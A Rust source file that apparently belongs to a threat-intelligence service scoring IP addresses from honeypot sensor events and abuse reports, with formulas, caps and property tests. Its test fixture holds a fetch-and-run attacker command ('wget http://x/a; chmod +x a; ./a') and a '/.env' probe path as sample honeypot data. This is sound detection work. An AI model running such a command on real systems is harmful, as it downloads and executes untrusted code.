//! The confidence score (0–100) and its explanation. Documented in
//! `docs/scoring.md`; the constants below are the documented numbers.

use super::behavior;
use super::indicator::Indicator;
use super::repeat;
use super::threat::{Category, Severity};
use super::time::{MILLIS_PER_DAY, UnixMillis};

/// Raw points that map to ≈63 on the 0–100 scale.
pub const SCALE: f64 = 70.0;
/// Most raw points one reporting account can contribute, however many reports.
pub const REPORTER_MAX: f64 = 24.0;
/// Most raw points the category of reports can add.
pub const CATEGORY_MAX: f64 = 10.0;
/// Highest score an IP can reach on the reports of a single account alone.
pub const SINGLE_REPORTER_CAP: u8 = 38;
/// Score floor once a very-high-severity behaviour was observed.
pub const CRITICAL_FLOOR: u8 = 60;

/// One contribution to the score.
#[derive(Clone, Debug, PartialEq, serde::Serialize)]
pub struct Factor {
    pub name: &'static str,
    pub points: f64,
    pub detail: String,
}

#[derive(Clone, Debug, PartialEq, serde::Serialize)]
pub struct Explanation {
    pub score: u8,
    pub raw: f64,
    pub recency_factor: f64,
    pub factors: Vec<Factor>,
}

fn sqrt_capped(n: u64, cap: f64) -> f64 {
    #[allow(clippy::cast_precision_loss)]
    (n as f64).sqrt().min(cap)
}

#[allow(clippy::cast_precision_loss)]
fn ln1p(n: u64) -> f64 {
    (n as f64).ln_1p()
}

/// Trust weight of a reporting account by its age when it reported (‰).
pub fn reporter_weight(account_age_ms: i64) -> u16 {
    match account_age_ms {
        a if a < MILLIS_PER_DAY => 250,
        a if a < 7 * MILLIS_PER_DAY => 500,
        a if a < 30 * MILLIS_PER_DAY => 750,
        _ => 1000,
    }
}

/// Scores `ind` as of `now` (an IP with no earlier expiry).
pub fn score(ind: &Indicator, now: UnixMillis) -> Explanation {
    score_with_history(ind, now, 0)
}

/// Whether only one reporting account and no sensor speak about `ind`:
/// then the score never exceeds `SINGLE_REPORTER_CAP`, boosts included.
pub fn single_source(ind: &Indicator) -> bool {
    !ind.has_sensor_evidence() && ind.distinct_reporters <= 1
}

/// Scores `ind` as of `now` for an IP whose indicator expired `expiries`
/// times before (see `domain::repeat`).
pub fn score_with_history(ind: &Indicator, now: UnixMillis, expiries: u32) -> Explanation {
    let mut factors = Vec::new();
    let (sensor_raw, critical) = sensor_points(ind, &mut factors);
    let report_raw = report_points(ind, &mut factors);
    let mut raw = sensor_raw + report_raw;
    if sensor_raw > 0.0 && report_raw > 0.0 {
        let pts = 0.25 * sensor_raw.min(report_raw);
        raw += pts;
        factors.push(Factor {
            name: "cross_source",
            points: pts,
            detail: "sensors and reports agree".into(),
        });
    }
    let boost = repeat::boost_points(expiries);
    if boost > 0.0 {
        raw += boost;
        factors.push(Factor {
            name: "repeat_offender",
            points: boost,
            detail: format!("listed before: expired {expiries} time(s) and returned"),
        });
    }
    let recency = recency(ind.last_seen, now);
    Explanation {
        score: finalize_capped(raw, recency, critical, single_source(ind)),
        raw,
        recency_factor: recency,
        factors,
    }
}

/// Points from sensor evidence, and whether a critical behaviour was seen.
fn sensor_points(ind: &Indicator, factors: &mut Vec<Factor>) -> (f64, bool) {
    let mut raw = 0.0;
    let mut distinct = 0_u32;
    let mut critical = false;
    for (name, &count) in &ind.behaviors {
        let Some(rule) = behavior::rule(name) else {
            continue;
        };
        let pts = rule.severity.weight() * (1.0 + (sqrt_capped(count, 6.0) - 1.0) * 0.25);
        distinct += 1;
        critical |= rule.severity == Severity::VeryHigh;
        raw += pts;
        factors.push(Factor {
            name: "behavior",
            points: pts,
            detail: format!("{name} ({}) ×{count}", rule.severity.as_str()),
        });
    }
    if distinct > 1 {
        let pts = 6.0 * f64::from(distinct - 1);
        raw += pts;
        factors.push(Factor {
            name: "behavior_diversity",
            points: pts,
            detail: format!("{distinct} distinct behaviors"),
        });
    }
    let prim: f64 = ind
        .primitives
        .values()
        .map(|&c| sqrt_capped(c, 6.0))
        .sum::<f64>()
        .min(15.0);
    if prim > 0.0 {
        raw += prim;
        factors.push(Factor {
            name: "primitives",
            points: prim,
            detail: format!("{} command/request patterns", ind.primitives.len()),
        });
    }
    if ind.sessions > 0 {
        let pts = (5.0 * ln1p(ind.sessions)).min(25.0);
        raw += pts;
        factors.push(Factor {
            name: "sessions",
            points: pts,
            detail: format!("{} sensor sessions", ind.sessions),
        });
    }
    let active = ind.protocols.values().filter(|p| p.sessions > 0).count();
    if active > 1 {
        #[allow(clippy::cast_precision_loss)]
        let pts = (4.0 * (active - 1) as f64).min(20.0);
        raw += pts;
        factors.push(Factor {
            name: "protocol_diversity",
            points: pts,
            detail: format!("{active} protocols"),
        });
    }
    if ind.sensors.len() > 1 {
        let pts = (5.0 * ln1p(ind.sensors.len() as u64 - 1)).min(15.0);
        raw += pts;
        factors.push(Factor {
            name: "sensor_corroboration",
            points: pts,
            detail: format!("seen by {} sensors", ind.sensors.len()),
        });
    }
    (raw, critical)
}

/// Points from reports: per account (bounded), plus the worst category.
fn report_points(ind: &Indicator, factors: &mut Vec<Factor>) -> f64 {
    let mut raw = 0.0;
    for r in ind.reporters.values() {
        #[allow(clippy::cast_precision_loss)]
        let volume = (1.0 + 0.5 * (r.counted.max(1) as f64).ln()).min(2.0);
        raw += f64::from(r.weight_permille) / 1000.0 * 12.0 * volume;
    }
    // Reporters beyond the remembered ones count at the lowest weight.
    let unremembered = ind
        .distinct_reporters
        .saturating_sub(ind.reporters.len() as u64);
    #[allow(clippy::cast_precision_loss)]
    {
        raw += unremembered as f64 * 3.0;
    }
    if raw <= 0.0 {
        return 0.0;
    }
    factors.push(Factor {
        name: "reporters",
        points: raw,
        detail: format!(
            "{} reports from {} accounts",
            ind.reports, ind.distinct_reporters
        ),
    });
    let cat = ind
        .categories
        .keys()
        .filter_map(|&c| Category::from_id(c))
        .map(Category::weight)
        .fold(0.0, f64::max)
        .min(CATEGORY_MAX);
    if cat > 0.0 {
        raw += cat;
        factors.push(Factor {
            name: "report_category",
            points: cat,
            detail: "most serious reported category".into(),
        });
    }
    raw
}

/// 1.0 while the newest evidence is at most 7 days old, then down to 0.8 at 30 days.
pub fn recency(last_seen: UnixMillis, now: UnixMillis) -> f64 {
    #[allow(clippy::cast_precision_loss)]
    let age_days = (now.0 - last_seen.0).max(0) as f64 / MILLIS_PER_DAY as f64;
    if age_days <= 7.0 {
        1.0
    } else {
        1.0 - 0.2 * ((age_days - 7.0) / 23.0).min(1.0)
    }
}

/// Maps raw points to 0–100, with the floor for critical behaviours.
pub fn finalize(raw: f64, recency: f64, critical: bool) -> u8 {
    let scaled = 100.0 * (1.0 - (-(raw * recency) / SCALE).exp());
    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
    let s = scaled.round().clamp(0.0, 100.0) as u8;
    if critical { s.max(CRITICAL_FLOOR) } else { s }
}

/// `finalize`, held at `SINGLE_REPORTER_CAP` for single-source evidence.
pub fn finalize_capped(raw: f64, recency: f64, critical: bool, single_source: bool) -> u8 {
    let s = finalize(raw, recency, critical);
    if single_source {
        s.min(SINGLE_REPORTER_CAP)
    } else {
        s
    }
}

/// Whether `ind` holds a very-high-severity behaviour.
pub fn is_critical(ind: &Indicator) -> bool {
    ind.max_severity() == Some(Severity::VeryHigh)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::indicator::{EventKind, SensorEvent};
    use crate::domain::threat::Protocol;
    use proptest::prelude::*;

    const NOW: UnixMillis = UnixMillis(100 * MILLIS_PER_DAY);

    fn ip() -> crate::domain::IpKey {
        "5.6.7.8".parse().unwrap()
    }

    fn event(kind: EventKind, session: u32, ts: i64) -> SensorEvent {
        SensorEvent {
            ts: UnixMillis(ts),
            src_ip: ip(),
            protocol: Protocol::Ssh,
            dst_port: Some(22),
            session_id: format!("s{session}"),
            kind,
            username: None,
            email: None,
            command: Some("uname -a; wget http://x/a; chmod +x a; ./a".into()),
            http_path: None,
            user_agent: None,
            credential_hash: None,
            http_method: None,
        }
    }

    #[test]
    fn empty_is_zero_and_worked_example_matches_docs() {
        let i = Indicator::new(ip(), NOW);
        assert_eq!(score(&i, NOW).score, 0);
        // docs/scoring.md worked example: 40 auth attempts in 4 sessions on
        // one sensor, plus two established accounts reporting brute_force.
        let mut i = Indicator::new(ip(), NOW);
        for n in 0..40 {
            i.apply_event(1, &event(EventKind::Auth, n / 10, NOW.0), n % 10 == 0);
        }
        let bf = Category::parse("brute_force").unwrap();
        i.apply_report(1, 1000, bf, Some(Protocol::Ssh), NOW);
        i.apply_report(2, 1000, bf, Some(Protocol::Ssh), NOW);
        let e = score(&i, NOW);
        assert_eq!(e.score, 73, "{e:#?}");
    }

    #[test]
    fn repeat_offenders_score_higher_but_one_account_stays_capped() {
        let ddos = Category::parse("ddos").unwrap();
        let mut two = Indicator::new(ip(), NOW);
        two.apply_report(1, 1000, ddos, None, NOW);
        two.apply_report(2, 1000, ddos, None, NOW);
        let first = score(&two, NOW);
        let again = score_with_history(&two, NOW, 1);
        assert!(again.score > first.score, "{again:#?}");
        assert!(again.factors.iter().any(|f| f.name == "repeat_offender"));
        assert!(score_with_history(&two, NOW, 3).score > again.score);
        assert_eq!(
            score_with_history(&two, NOW, 3).score,
            score_with_history(&two, NOW, 30).score
        );
        let mut one = Indicator::new(ip(), NOW);
        for k in 0..50 {
            one.apply_report(7, 1000, ddos, None, UnixMillis(NOW.0 + k * DEDUP_MS));
        }
        let s = score_with_history(&one, one.last_seen, 30).score;
        assert_eq!(s, SINGLE_REPORTER_CAP);
    }

    const DEDUP_MS: i64 = crate::domain::indicator::DEDUP_WINDOW_MS;

    #[test]
    fn critical_behaviours_have_a_floor() {
        let mut i = Indicator::new(ip(), NOW);
        i.apply_event(1, &event(EventKind::Command, 1, NOW.0), true);
        assert!(i.behaviors.contains_key("malware_download"));
        assert!(score(&i, NOW).score >= CRITICAL_FLOOR);
    }

    #[test]
    fn recency_lowers_old_evidence_a_little() {
        let mut i = Indicator::new(ip(), NOW);
        i.apply_report(1, 1000, Category::parse("ddos").unwrap(), None, NOW);
        i.apply_report(2, 1000, Category::parse("ddos").unwrap(), None, NOW);
        let fresh = score(&i, NOW).score;
        let old = score(&i, UnixMillis(NOW.0 + 29 * MILLIS_PER_DAY)).score;
        assert!(old < fresh && old > fresh / 2, "{old} vs {fresh}");
    }

    #[derive(Debug, Clone)]
    enum Ev {
        Report {
            account: u64,
            cat: u8,
            age_days: i64,
            minutes: i64,
        },
        Sensor {
            sensor: u64,
            kind: u8,
            session: u32,
        },
    }

    fn ev_strategy() -> impl Strategy<Value = Ev> {
        prop_oneof![
            (0_u64..6, 1_u8..=16, 0_i64..60, 0_i64..10_000).prop_map(
                |(account, cat, age_days, minutes)| Ev::Report {
                    account,
                    cat,
                    age_days,
                    minutes
                }
            ),
            (0_u64..4, 0_u8..5, 0_u32..20).prop_map(|(sensor, kind, session)| Ev::Sensor {
                sensor,
                kind,
                session
            }),
        ]
    }

    fn apply(
        i: &mut Indicator,
        e: &Ev,
        seen_sessions: &mut std::collections::BTreeSet<(u64, u32)>,
    ) {
        match *e {
            Ev::Report {
                account,
                cat,
                age_days,
                minutes,
            } => {
                let w = reporter_weight(age_days * MILLIS_PER_DAY);
                i.apply_report(
                    account,
                    w,
                    Category::from_id(cat).unwrap(),
                    None,
                    UnixMillis(NOW.0 - minutes * 60_000),
                );
            }
            Ev::Sensor {
                sensor,
                kind,
                session,
            } => {
                let kind = [
                    EventKind::Connect,
                    EventKind::Auth,
                    EventKind::Command,
                    EventKind::HttpRequest,
                    EventKind::Mail,
                ][usize::from(kind)];
                let mut ev = event(kind, session, NOW.0);
                ev.http_path = Some("/.env".into());
                ev.credential_hash = Some("c".into());
                let new = seen_sessions.insert((sensor, session));
                i.apply_event(sensor, &ev, new);
            }
        }
    }

    proptest! {
        #[test]
        fn bounded_and_monotonic_in_evidence(evs in proptest::collection::vec(ev_strategy(), 0..60), extra in ev_strategy()) {
            let mut i = Indicator::new(ip(), UnixMillis(NOW.0 - 10_000 * 60_000));
            let mut seen = std::collections::BTreeSet::new();
            for e in &evs { apply(&mut i, e, &mut seen); }
            let before = score(&i, NOW);
            prop_assert!(before.score <= 100);
            prop_assert!(before.raw >= 0.0);
            apply(&mut i, &extra, &mut seen);
            let after = score(&i, NOW);
            prop_assert!(after.score >= before.score, "{} -> {} after {:?}", before.score, after.score, extra);
        }

        #[test]
        fn one_account_alone_is_capped(n in 1_usize..500, cats in proptest::collection::vec(1_u8..=16, 1..20), gap in 0_i64..120) {
            let mut i = Indicator::new(ip(), NOW);
            for k in 0..n {
                let cat = Category::from_id(cats[k % cats.len()]).unwrap();
                i.apply_report(42, 1000, cat, Some(Protocol::Ssh), UnixMillis(NOW.0 + i64::try_from(k).unwrap() * gap * 60_000));
            }
            let s = score(&i, i.last_seen).score;
            prop_assert!(s <= SINGLE_REPORTER_CAP, "score {s} from one account");
        }

        #[test]
        fn new_accounts_weigh_less_than_established(n in 2_u64..40) {
            let bf = Category::parse("brute_force").unwrap();
            let mut puppets = Indicator::new(ip(), NOW);
            let mut veterans = Indicator::new(ip(), NOW);
            for a in 0..n {
                puppets.apply_report(a, reporter_weight(0), bf, None, NOW);
                veterans.apply_report(a, reporter_weight(365 * MILLIS_PER_DAY), bf, None, NOW);
            }
            prop_assert!(score(&puppets, NOW).raw < score(&veterans, NOW).raw);
        }
    }
}
